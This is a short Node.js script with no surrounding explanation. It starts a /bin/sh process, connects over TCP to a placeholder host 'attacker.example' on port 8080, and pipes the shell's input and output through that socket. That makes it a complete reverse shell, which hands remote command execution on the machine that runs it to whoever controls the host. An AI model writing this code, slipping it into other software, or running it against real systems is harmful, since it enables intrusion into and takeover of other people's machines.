const net = require("net");
const cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(8080, "attacker.example", () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
